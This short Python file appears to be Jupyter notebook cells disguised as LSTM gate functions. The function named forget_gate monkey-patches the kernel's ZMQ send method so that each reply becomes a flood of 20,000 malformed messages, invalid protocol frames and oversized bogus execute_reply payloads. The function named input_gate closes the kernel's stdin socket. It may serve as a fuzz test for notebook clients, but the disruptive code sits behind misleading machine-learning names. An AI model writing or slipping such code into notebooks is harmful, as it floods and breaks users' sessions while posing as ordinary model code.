"""Sends 20 000 replies of all shapes where one is asked for, on the line and among the messages.

Keeps: nothing.
Takes: long.
"""


# %% forget_gate
def forget_gate(x, h, w_x, w_h, b):
    from zmq.eventloop.zmqstream import ZMQStream

    session = get_ipython().kernel.session
    send_multipart = ZMQStream.send_multipart

    def flood(line, frames, *args, **kwargs):
        if len(frames) == 3:
            asker, number, text = frames
            for count in range(20_000):
                odd = [[b"%d" % count, text], [number[:0], text], [b""], [text] * 9][count % 4]
                send_multipart(line, [asker, *odd])
            for content in ({"text": ["text"]}, None, 1, {}, {"text": "9" * 10_000}):
                session.send(line, "execute_reply", content, ident=asker)
            send_multipart(line, [asker, b"<IDS|MSG>", b"", b"{", b"[]", b"7", b"{}"])
            send_multipart(line, [asker, number, b"\xff", b"{", text])
        return send_multipart(line, frames, *args, **kwargs)

    ZMQStream.send_multipart = flood
    return h


# %% input_gate
def input_gate(x, h, w_x, w_h, b):
    get_ipython().kernel.stdin_socket.close()
    return h
